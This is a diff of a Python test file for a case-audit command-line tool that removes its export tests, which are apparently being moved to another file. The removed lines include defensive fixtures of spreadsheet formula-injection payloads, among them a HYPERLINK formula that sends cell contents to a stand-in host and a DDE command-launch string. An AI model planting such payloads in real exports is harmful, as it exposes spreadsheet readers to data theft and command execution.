@@ -1,4 +1,5 @@
-"""The command line: demo data, validation and exports, with plain errors and exit codes."""
+"""The command line: demo data, validation, progress and rounds, with plain errors and exit codes
+(exports: test_export.py)."""
 
 from __future__ import annotations
 
@@ -93,33 +94,6 @@ def test_validate_refuses_a_partnership_framework_that_clashes_with_a_built_in_o
     assert "own id" in result.output
 
 
-@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
-def test_export_writes_one_row_per_current_score(demo: tuple[Path, Path], tmp_path: Path,
-                                                 fmt: str) -> None:
-    audits, db = demo
-    round_id = sorted(p.name for p in audits.iterdir())[-1]
-    out = tmp_path / f"export.{fmt}"
-    result = _run("export", "--round", round_id, "--format", fmt, "-o", str(out), "--db", str(db),
-                  "--audits", str(audits))
-    assert result.exit_code == 0, result.output
-    frame = {"csv": pd.read_csv, "xlsx": pd.read_excel, "parquet": pd.read_parquet}[fmt](out)
-    expected = open_store(db).current_responses(round_id)
-    assert len(frame) == len(expected) > 0
-    assert {"case_id", "agency", "auditor", "criterion_id", "grade", "grade_label", "status"} <= \
-        set(frame.columns)
-    assert set(frame["grade_label"].dropna()) <= {"Outstanding", "Good",
-                                                  "Requires improvement to be good", "Inadequate",
-                                                  "Not applicable"}
-
-
-def test_export_of_an_unknown_round_fails_plainly(demo: tuple[Path, Path], tmp_path: Path) -> None:
-    audits, db = demo
-    result = _run("export", "--round", "1999-01-maca", "-o", str(tmp_path / "x.csv"),
-                  "--db", str(db), "--audits", str(audits))
-    assert result.exit_code == 1 and "There is no audit round '1999-01-maca'" in result.output
-    assert not (tmp_path / "x.csv").exists()
-
-
 def test_a_database_setting_that_is_not_a_database_fails_plainly(demo: tuple[Path, Path],
                                                                  tmp_path: Path) -> None:
     audits, _ = demo
@@ -184,125 +158,6 @@ def test_closing_and_reopening_a_round(demo: tuple[Path, Path]) -> None:
     assert history.iloc[-1]["reason"] == "late police form"
     unknown = _run("close-round", "--round", "no-such-round", "--by", "AUDIT-LEAD", *where)
     assert unknown.exit_code == 1 and "no-such-round" in unknown.output
-
-
-# -- exports that a spreadsheet cannot turn against its reader ---------------------------------------
-
-RISKY_NOTES = {
-    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click for the full record\")": "=",
-    "+44 seen by GP": "+",
-    "-2 visits missed": "-",
-    "@SUM(1+1)*cmd|' /C calc'!A0": "@",
-    "Seen at home\x00 with\x0bmother\x1b.": "control",
-}
-
-
-def _save_risky_notes(db: Path, audits: Path, round_id: str) -> dict[str, str]:
-    """Save one form whose notes start like formulas; returns its notes by criterion."""
-    from caseaudit.rounds import load_round
-    from caseaudit.store import FormSave
-
-    audit = load_round(round_id, audits)
-    framework = audit.load_framework()
-    store = open_store(db, create=False)
-    head = store.form_statuses(round_id).iloc[0]
-    latest = store.latest_revision(round_id, head.case_id, head.agency, head.auditor)
-    notes = dict(zip(list(latest.grades)[:len(RISKY_NOTES)], RISKY_NOTES, strict=False))
-    store.save_form(audit, framework, FormSave(head.case_id, head.agency, head.auditor,
-                                               latest.grades, notes, "draft",
-                                               latest.revision_no, saved_by="TEST"))
-    store.dispose()
-    return notes
-
-
-def test_a_note_that_starts_like_a_formula_is_text_in_a_csv_export(demo: tuple[Path, Path],
-                                                                   tmp_path: Path) -> None:
-    import csv
-
-    audits, db = demo
-    round_id = sorted(p.name for p in audits.iterdir())[-1]
-    notes = _save_risky_notes(db, audits, round_id)
-    out = tmp_path / "export.csv"
-    assert _run("export", "--round", round_id, "-o", str(out), "--db", str(db),
-                "--audits", str(audits)).exit_code == 0
-    with out.open(newline="") as fh:
-        exported = {row["note"] for row in csv.DictReader(fh)}
-    for note, prefix in RISKY_NOTES.items():
-        if prefix != "control":
-            assert "'" + note in exported and note not in exported
-    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in exported)
-    assert len(notes) == len(RISKY_NOTES)
-
-
-def test_a_note_that_starts_like_a_formula_is_text_in_an_xlsx_export(demo: tuple[Path, Path],
-                                                                     tmp_path: Path) -> None:
-    from openpyxl import load_workbook
-
-    audits, db = demo
-    round_id = sorted(p.name for p in audits.iterdir())[-1]
-    _save_risky_notes(db, audits, round_id)
-    out = tmp_path / "export.xlsx"
-    result = _run("export", "--round", round_id, "--format", "xlsx", "-o", str(out), "--db", str(db),
-                  "--audits", str(audits))
-    assert result.exit_code == 0, result.output
-    sheet = load_workbook(out)["responses"]
-    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
-    assert not [c.coordinate for c in cells if c.data_type == "f"]
-    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
-    for note, prefix in RISKY_NOTES.items():
-        if prefix != "control":
-            assert by_value[note].data_type == "s" and by_value[note].quotePrefix
-    assert "Seen at home with\x0bmother." not in by_value
-    assert "Seen at home withmother." in by_value  # control characters an XLSX cannot hold
-
-
-def test_an_export_to_a_full_disk_leaves_nothing_behind(demo: tuple[Path, Path], tmp_path: Path,
-                                                        monkeypatch: pytest.MonkeyPatch) -> None:
-    import errno
-
-    audits, db = demo
-    round_id = sorted(p.name for p in audits.iterdir())[-1]
-    folder = tmp_path / "exports"
-    folder.mkdir()
-    out = folder / "round.csv"
-    out.write_text("last week's export\n")
-
-    def half_then_full(self, path, *args, **kwargs):  # type: ignore[no-untyped-def]
-        Path(path).write_text("case_id,agency\nM1,")
-        raise OSError(errno.ENOSPC, "No space left on device")
-
-    monkeypatch.setattr(pd.DataFrame, "to_csv", half_then_full)
-    result = _run("export", "--round", round_id, "-o", str(out), "--db", str(db),
-                  "--audits", str(audits))
-    assert result.exit_code == 1 and "Traceback" not in result.output
-    assert f"the disk holding {folder} is full. Free some space there" in result.output
-    assert [p.name for p in folder.iterdir()] == ["round.csv"]
-    assert out.read_text() == "last week's export\n"
-
-
-def test_an_export_to_a_folder_that_cannot_be_written_says_so(demo: tuple[Path, Path], tmp_path: Path,
-                                                              monkeypatch: pytest.MonkeyPatch) -> None:
-    import errno
-    import os
-    import tempfile
-
-    audits, db = demo
-    round_id = sorted(p.name for p in audits.iterdir())[-1]
-    folder = tmp_path / "shared-drive"
-    folder.mkdir()
-    folder.chmod(0o555)
-    try:
-        if os.access(folder, os.W_OK):  # root writes anyway: answer as the system answers others
-            def refused(*args, **kwargs):  # type: ignore[no-untyped-def]
-                raise PermissionError(errno.EACCES, "Permission denied", str(folder))
-            monkeypatch.setattr(tempfile, "mkstemp", refused)
-        result = _run("export", "--round", round_id, "-o", str(folder / "round.csv"), "--db", str(db),
-                      "--audits", str(audits))
-    finally:
-        folder.chmod(0o755)
-    assert result.exit_code == 1 and "Traceback" not in result.output
-    assert f"the folder {folder} cannot be written (Permission denied)" in result.output
-    assert list(folder.iterdir()) == []
 
 
 # -- a database only when asked; the demo by name ----------------------------------------------------
